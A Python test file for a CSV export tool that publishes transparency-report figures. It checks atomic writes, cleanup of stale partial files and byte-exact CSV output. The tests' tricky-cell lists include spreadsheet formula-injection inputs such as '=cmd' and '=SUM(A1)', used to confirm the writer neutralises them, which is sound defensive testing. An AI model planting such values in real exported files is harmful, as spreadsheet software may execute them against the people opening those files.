def test_a_failed_export_leaves_the_earlier_one_whole_and_a_touched_one_is_never_replaced(small, tmp_path,
                                                                                           monkeypatch):
    from reports.model.errors import AtlasError
    from reports.publish.export import Figures
    from reports.publish.package import described_files

    out = tmp_path / "atlas.csv"
    export(small, out, "csv")
    earlier, descriptor = out.read_bytes(), (tmp_path / "datapackage.json").read_bytes()

    def broken(self):  # the store or the disk failing halfway through the figures
        yield memoryview(b"source,platform\n")
        raise OSError("No space left on device")

    monkeypatch.setattr(Figures, "csv_chunks", broken)
    with pytest.raises(OSError, match="No space left"):
        export(small, out, "csv")
    assert out.read_bytes() == earlier and (tmp_path / "datapackage.json").read_bytes() == descriptor
    assert described_files(tmp_path / "datapackage.json")[out.name] == sha256_file(out)
    monkeypatch.undo()
    # Edited in place to the same size: only its sha256 tells; it is refused after the new export was written
    # aside, and that one is thrown away.
    touched = earlier.replace(b"2024", b"2025", 1)
    assert touched != earlier and len(touched) == len(earlier)
    out.write_bytes(touched)
    with pytest.raises(AtlasError, match="not an earlier export of the atlas: not overwritten"):
        export(small, out, "csv")
    assert out.read_bytes() == touched
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")]
    # A writer killed mid-export leaves its partial file: the next export removes it, not a living writer's.
    import socket
    import subprocess
    import sys

    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True,
                          check=True).stdout.strip()
    killed = tmp_path / f".atlas.csv.{socket.gethostname()}-{dead}-0a1b2c3d.partial"
    living = tmp_path / f".atlas.csv.{socket.gethostname()}-{os.getpid()}-0a1b2c3d.partial"
    for partial in (killed, living):
        partial.write_bytes(b"source,platform\n")
    out.unlink()
    export(small, out, "csv")
    assert not killed.exists() and living.exists()


def test_an_export_to_csv_never_imports_pandas(small, tmp_path):
    """Importing pandas took a third of an export's time; a CSV export needs only DuckDB and Arrow (issue 15)."""
    import subprocess
    import sys

    code = ("import sys\nfrom tatlas.cli import main\n"
            "try:\n    main(['export', '--db', sys.argv[1], '--out', sys.argv[2]])\n"
            "except SystemExit as exc:\n    assert not exc.code, exc.code\n"
            "assert 'pandas' not in sys.modules, 'pandas was imported'\n")
    out = tmp_path / "atlas.csv"
    done = subprocess.run([sys.executable, "-c", code, str(small.path), str(out)], capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    from reports.publish.spreadsheet import write_csv

    assert out.read_text(encoding="utf-8") == write_csv(export_frame(small))


TRICKY_CELLS = ["plain", "", None, "a,b", 'say "no"', "line\nfeed", "carriage\rreturn", "=SUM(A1)", "+33 1 23",
                "-5", "+1,234.5%", "@handle", "\tindented", "-", "'quoted", "١٢٣", "ünïcödé, \"both\"\n"]


def test_exports_csv_lines_written_by_duckdb_equal_write_csv_byte_for_byte():
    import duckdb

    from reports.publish.spreadsheet import csv_lines_sql, write_csv

    df = pd.DataFrame({"text": TRICKY_CELLS,
                       "value": [1.0, 0.5, None, 1234567.0, 1e16, 2.5e-7, -3.0, 7_700_000.0, 0.1, 1e22, float("nan"),
                                 12.0, 3.25, 100.0, 1.5, 2.0, 4.0]})
    con = duckdb.connect()
    con.register("cells", df)
    lines = con.sql(csv_lines_sql("SELECT * FROM cells", ["text", "value"], {"value"})).fetchall()
    assert "text,value\n" + "".join(line for (line,) in lines) == write_csv(df)


def test_csv_plain_columns_are_exactly_those_whose_every_value_needs_no_neutralising_or_quoting():
    """A column the CSV export writes unchecked (schema.Field.csv_plain) allows no value that `write_csv` would
    change: values drawn from each of its patterns, and every word of its vocabulary, come out as they went in."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from reports.model.schema import CSV_PLAIN_PATTERNS, FIELDS_BY_NAME
    from reports.publish.spreadsheet import write_csv

    def unchanged(value: str) -> bool:
        return write_csv(pd.DataFrame({"a": [value], "b": ["x"]})) == f"a,b\n{value},x\n"

    plain = {name for name, field in FIELDS_BY_NAME.items() if field.csv_plain()}
    assert {"platform", "source", "period_start", "region", "document_sha256", "metric", "policy_area", "unit",
            "qualifier", "harmonised"} <= plain
    # Free text and figures are always checked: a label or a licence may hold anything.
    assert not plain & {"policy_label", "metric_label", "value_text", "locator", "breakdown", "source_url", "license",
                        "counted_in", "value", "period"}
    for name in plain:
        field = FIELDS_BY_NAME[name]
        assert field.enum is None or all(unchanged(v) for v in field.enum() if v), name

    @settings(max_examples=300, deadline=None)
    @given(st.sampled_from(CSV_PLAIN_PATTERNS).flatmap(lambda p: st.from_regex(p, fullmatch=True)))
    def drawn(value):
        assert unchanged(value)

    drawn()
    assert not unchanged("=cmd") and not unchanged("a,b")  # the check itself can fail


def test_a_csv_export_in_partitions_prepared_two_at_a_time_or_alone_keeps_the_order(real_atlas, tmp_path,
                                                                                     monkeypatch):
    """However the figures fall into partitions (several (source, platform) pairs to one, pairs prepared two at a
    time, a pair too large for its share prepared alone), the bytes are those of the one sorted frame (NCMEC's
    editions and X's reports: over a hundred pairs of very different sizes)."""
    from reports.publish import export as export_module
    from reports.publish.spreadsheet import write_csv

    selection = Selection(sources=["ncmec-esp", "x"])
    expected = write_csv(export_frame(real_atlas, selection)).encode("utf-8")
    pairs = [n for (n,) in real_atlas.con.execute("SELECT count(*) FROM latest WHERE source IN ('ncmec-esp', 'x') "
                                                   "GROUP BY source, platform").fetchall()]
    assert len(pairs) > 100 and min(pairs) < max(pairs)
    held = []  # the lines a thread prepared whole: never more than a share (a larger pair streams out)
    prepare = export_module.Figures._table
    monkeypatch.setattr(export_module.Figures, "_table", lambda self, *a: held.append(prepare(self, *a)) or held[-1])
    for rows in (10 * sum(pairs), 2 * max(pairs) + 2, 2 * sorted(pairs)[len(pairs) // 2]):
        monkeypatch.setattr(export_module, "PARTITION_ROWS", rows)
        held.clear()
        result = export(real_atlas, tmp_path / f"part-{rows}.csv", "csv", selection)
        assert result.data.read_bytes() == expected, rows
        assert held and max(len(t) for t in held) <= rows // export_module.SORTING_THREADS


@pytest.mark.parametrize("per_million", [False, True])
def test_a_real_streamed_csv_export_equals_write_csv_of_the_frame(real_meta, tmp_path, per_million):
    from reports.publish.spreadsheet import write_csv

    result = export(real_meta, tmp_path / "all.csv", "csv", per_million=per_million)
    expected = write_csv(export_frame(real_meta, per_million=per_million))
    assert result.data.read_bytes() == expected.encode("utf-8")
    assert result.rows == len(pd.read_csv(result.data)) > 1000
